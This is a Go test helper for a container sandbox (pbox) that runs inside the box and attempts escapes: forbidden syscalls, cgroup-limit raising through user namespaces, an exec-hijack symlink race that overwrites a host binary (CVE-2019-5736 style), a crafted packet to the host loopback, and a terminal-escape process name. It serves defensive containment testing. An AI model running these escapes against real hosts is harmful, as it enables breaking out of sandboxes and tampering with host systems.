// Command attack is what the containment tests run inside a box: each
// subcommand tries one way out and prints what the kernel answered, one
// "name: result" line per try ("ok" or the errno's name). It is built
// static (CGO_ENABLED=0) and copied into the box's root filesystem by the
// tests; it is not part of pbox.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack syscalls | keyring-read NAME | keyring-plant NAME | open PATH...")
		os.Exit(2)
	}
	runtime.LockOSThread()
	switch os.Args[1] {
	case "syscalls":
		syscalls()
	case "keyring-read":
		id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", os.Args[2], 0)
		if err == nil {
			buf := make([]byte, 256)
			n, rerr := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
			if rerr == nil {
				fmt.Printf("keyring-read: ok %s\n", buf[:n])
				return
			}
			err = rerr
		}
		report("keyring-read", err)
	case "keyring-plant":
		_, err := unix.AddKey("user", os.Args[2], []byte("planted"), unix.KEY_SPEC_SESSION_KEYRING)
		report("keyring-plant", err)
	case "cgroup-escape":
		cgroupEscape()
	case "cgroup-child":
		cgroupChild(os.Args[2], os.Args[3])
	case "write":
		err := os.WriteFile(os.Args[2], []byte(os.Args[3]), 0)
		report("write "+os.Args[2], err)
	case "hijack":
		hijack(os.Args[2], os.Args[3:])
	case "-c":
		// Run as a shell (argv[1] "-c"): only a hijacked exec gets here,
		// through a link the box planted to this program on the host.
		fmt.Println("hijacked: the host's file ran")
	case "packet-socket":
		// A packet socket on the host's network reads every frame of the
		// host, loopback included.
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
		if err == nil {
			unix.Close(fd)
		}
		report("packet-socket", err)
	case "localnet":
		localnet(os.Args[2], os.Args[3])
	case "shm":
		// The host's SysV shared memory segment os.Args[2]: read it.
		id, _ := strconv.Atoi(os.Args[2])
		var ds unix.SysvShmDesc
		_, err := unix.SysvShmCtl(id, unix.IPC_STAT, &ds)
		report("shm "+os.Args[2], err)
	case "title":
		// A name that retitles the terminal that prints it, and (the
		// rest of argv) arguments that clear it; then wait.
		name := []byte("\x1b]0;owned\a\x00")
		unix.Prctl(unix.PR_SET_NAME, uintptr(unsafe.Pointer(&name[0])), 0, 0, 0)
		fmt.Println("titled")
		time.Sleep(time.Hour)
	case "sched":
		// How this process is scheduled: its I/O priority, policy, nice
		// value and CPUs (what a box's process.scheduler and the like set).
		prio, _, e := unix.Syscall(unix.SYS_IOPRIO_GET, 1, 0, 0)
		if e != 0 {
			prio = 0
		}
		var set unix.CPUSet
		unix.SchedGetaffinity(0, &set)
		var cpus []string
		for c := 0; c < 1024; c++ {
			if set.IsSet(c) {
				cpus = append(cpus, strconv.Itoa(c))
			}
		}
		policy, _, _ := unix.Syscall(unix.SYS_SCHED_GETSCHEDULER, 0, 0, 0)
		nice, _ := unix.Getpriority(unix.PRIO_PROCESS, 0)
		fmt.Printf("ioprio: class %d level %d\npolicy: %d\nnice: %d\ncpus: %s\n", prio>>13, prio&7, policy, 20-nice, strings.Join(cpus, ","))
	case "nr":
		// Raw syscall os.Args[2] (a number), no arguments: what the
		// seccomp filter answers for it.
		nr, _ := strconv.Atoi(os.Args[2])
		_, _, errno := unix.Syscall(uintptr(nr), 0, 0, 0)
		var err error
		if errno != 0 {
			err = errno
		}
		report("nr "+os.Args[2], err)
	case "open":
		for _, p := range os.Args[2:] {
			f, err := os.OpenFile(p, os.O_RDONLY, 0)
			if err == nil {
				f.Close()
			}
			report("open "+p, err)
		}
	default:
		fmt.Fprintln(os.Stderr, "attack: unknown subcommand", os.Args[1])
		os.Exit(2)
	}
}

// report prints "name: ok" or "name: EPERM".
func report(name string, err error) {
	if err == nil {
		fmt.Printf("%s: ok\n", name)
		return
	}
	var errno syscall.Errno
	if e, ok := err.(syscall.Errno); ok {
		errno = e
	} else if pe, ok := err.(*os.PathError); ok {
		errno, _ = pe.Err.(syscall.Errno)
	}
	if errno != 0 {
		fmt.Printf("%s: %s\n", name, unix.ErrnoName(errno))
		return
	}
	fmt.Printf("%s: %v\n", name, err)
}

// cgroupEscape is the user-namespace attack on cgroup limits: a child in
// a new user, mount and cgroup namespace, mapped to root, mounts each v1
// hierarchy (or cgroup2) it can and tries to raise the limits it sees
// there — its own cgroup's, or, in a hierarchy the box never joined,
// someone else's.
func cgroupEscape() {
	for _, try := range [][2]string{{"cgroup", "memory"}, {"cgroup", "pids"}, {"cgroup2", ""}} {
		name := "cgroup-escape " + try[0] + " " + try[1]
		self, _ := os.Executable()
		pid, err := syscall.ForkExec(self, []string{"attack", "cgroup-child", try[0], try[1]}, &syscall.ProcAttr{
			Files: []uintptr{0, 1, 2},
			Sys: &syscall.SysProcAttr{
				Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
				UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
				GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
			},
		})
		if err != nil {
			report(name, err)
			continue
		}
		var ws syscall.WaitStatus
		syscall.Wait4(pid, &ws, 0, nil)
	}
}

func cgroupChild(fstype, ctrl string) {
	name := "cgroup-escape " + fstype + " " + ctrl
	dir, err := os.MkdirTemp("", "cg")
	if err != nil {
		dir = "/dev/shm/cg"
		os.Mkdir(dir, 0o755)
	}
	if err := unix.Mount("none", dir, fstype, 0, ctrl); err != nil {
		report(name, err)
		return
	}
	file := map[string]string{"memory": "memory.limit_in_bytes", "pids": "pids.max", "": "pids.max"}[ctrl]
	err = os.WriteFile(dir+"/"+file, []byte("max"), 0)
	if ctrl == "memory" {
		err = os.WriteFile(dir+"/"+file, []byte("9223372036854771712"), 0)
	}
	report(name, err)
}

func raw(nr uintptr, a ...uintptr) error {
	var args [6]uintptr
	copy(args[:], a)
	_, _, e := unix.Syscall6(nr, args[0], args[1], args[2], args[3], args[4], args[5])
	if e != 0 {
		return e
	}
	return nil
}

// syscalls tries what Docker's default profile forbids a box without
// extra capabilities, each on its own (none of them changes the host when
// it is allowed: the results are closed or undone at once).
func syscalls() {
	report("keyctl", raw(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(0xfffffffd), 0)) // session keyring
	desc := []byte("probe\x00")
	typ := []byte("user\x00")
	report("add_key", raw(unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(&typ[0])), uintptr(unsafe.Pointer(&desc[0])), 0, 0, uintptr(0xfffffffc))) // thread keyring
	// unshare changes only this (locked) thread, which exits with the program.
	report("unshare user", raw(unix.SYS_UNSHARE, unix.CLONE_NEWUSER))
	report("unshare mount", raw(unix.SYS_UNSHARE, unix.CLONE_NEWNS))
	report("unshare cgroup", raw(unix.SYS_UNSHARE, unix.CLONE_NEWCGROUP))
	report("unshare net", raw(unix.SYS_UNSHARE, unix.CLONE_NEWNET))
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	fd, _, e := unix.Syscall6(unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr)), 0, ^uintptr(0), ^uintptr(0), 0, 0)
	if e == 0 {
		unix.Close(int(fd))
		report("perf_event_open", nil)
	} else {
		report("perf_event_open", e)
	}
	var params [120]byte
	fd, _, e = unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
	if e == 0 {
		unix.Close(int(fd))
		report("io_uring_setup", nil)
	} else {
		report("io_uring_setup", e)
	}
	old, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0) // query
	_, _, e = unix.Syscall(unix.SYS_PERSONALITY, old|0x0400000, 0, 0)
	if e == 0 {
		unix.Syscall(unix.SYS_PERSONALITY, old, 0, 0)
		report("personality READ_IMPLIES_EXEC", nil)
	} else {
		report("personality READ_IMPLIES_EXEC", e)
	}
	report("bpf", raw(unix.SYS_BPF, unix.BPF_PROG_LOAD, 0, 0))
	src, dst, fstype := []byte("none\x00"), []byte("/tmp\x00"), []byte("tmpfs\x00")
	report("mount", raw(unix.SYS_MOUNT, uintptr(unsafe.Pointer(&src[0])), uintptr(unsafe.Pointer(&dst[0])), uintptr(unsafe.Pointer(&fstype[0])), 0, 0))
	report("getpid", raw(unix.SYS_GETPID))
}

// hijack is the attack on pbox exec of issue 19: it keeps every LINK of
// its LINK=HOSTPATH arguments (/bin/sh, a script's interpreter, a working
// directory) pointing at /proc/self/task/T/root/HOSTPATH, for T a thread of a process that has
// just appeared in the box other than its leader (the multi-threaded exec
// stage pbox had, whose other threads kept the host's root) or, with no
// such process in sight, the pid the kernel hands out next but one. An
// exec that resolves such a link in a process with a host-rooted thread
// runs HOST, a file of the host. It also keeps an O_PATH handle on the
// exe of any process that runs HOST and tries to append to it once that
// process is gone (the overwrite of CVE-2019-5736). It runs until killed,
// printing what it did.
func hijack(host string, links []string) {
	var handles []int
	tried := map[int]bool{}
	self := os.Getpid()
	for round := 0; ; round++ {
		target := 0
		if ents, err := os.ReadDir("/proc"); err == nil {
			for _, e := range ents {
				pid, err := strconv.Atoi(e.Name())
				if err != nil || pid == 1 || pid == self {
					continue
				}
				if exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid)); err == nil && exe == host && !tried[pid] {
					if fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
						tried[pid] = true
						handles = append(handles, fd)
						fmt.Printf("hijack: holding the exe of pid %d (%s)\n", pid, exe)
					}
				}
				tasks, err := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
				if err != nil {
					continue
				}
				for _, task := range tasks {
					if tid, err := strconv.Atoi(task.Name()); err == nil && tid != pid {
						target = tid
					}
				}
			}
		}
		if target == 0 {
			if data, err := os.ReadFile("/proc/sys/kernel/ns_last_pid"); err == nil {
				last, _ := strconv.Atoi(strings.TrimSpace(string(data)))
				target = last + 2
			}
		}
		for _, arg := range links {
			l, path, _ := strings.Cut(arg, "=")
			to := fmt.Sprintf("/proc/self/task/%d/root%s", target, path)
			tmp := l + ".hijack"
			os.Remove(tmp)
			if os.Symlink(to, tmp) == nil {
				os.Rename(tmp, l) // atomic: the name is a link at every instant
			}
		}
		// Processes that ran the host's file and are gone: write to it.
		for i, fd := range handles {
			if fd < 0 {
				continue
			}
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				_, err = w.Write([]byte("\nwritten by the box\n"))
				w.Close()
			}
			if err == nil || round%200 == 0 {
				report("hijack: append to the host's file", err)
			}
			if err == nil {
				unix.Close(fd)
				handles[i] = -1
			}
		}
		if round%50 == 0 {
			time.Sleep(time.Millisecond)
		}
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// localnet sends, on eth0, a UDP datagram for 127.0.0.1:port in a frame
// addressed to the gateway's MAC (the CVE-2020-8558 class): a host that
// routes it (route_localnet on its bridge, no drop of 127.0.0.0/8 from
// outside) hands it to a service bound to its own loopback.
func localnet(gwMAC, port string) {
	fail := func(err error) { report("localnet", err); os.Exit(0) }
	ifc, err := net.InterfaceByName("eth0")
	if err != nil {
		fail(err)
	}
	addrs, _ := ifc.Addrs()
	var src net.IP
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			src = n.IP.To4()
		}
	}
	dst, err := net.ParseMAC(gwMAC)
	if err != nil || src == nil {
		fail(unix.EINVAL)
	}
	p, _ := strconv.Atoi(port)
	payload := []byte("from the box to the host's loopback")
	udp := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], uint16(p))
	binary.BigEndian.PutUint16(udp[4:], uint16(len(udp)))
	copy(udp[8:], payload) // checksum 0: none, which IPv4 allows
	ip := make([]byte, 20)
	ip[0], ip[8], ip[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
	copy(ip[12:], src)
	copy(ip[16:], net.IPv4(127, 0, 0, 1).To4())
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
	frame := append(append(append(append([]byte{}, dst...), ifc.HardwareAddr...), 0x08, 0x00), append(ip, udp...)...)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		fail(err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: ifc.Index, Halen: 6}
	copy(to.Addr[:], dst)
	for i := 0; i < 3; i++ { // three, in case the first meets an ARP miss
		if err = unix.Sendto(fd, frame, 0, to); err != nil {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	report("localnet", err)
}
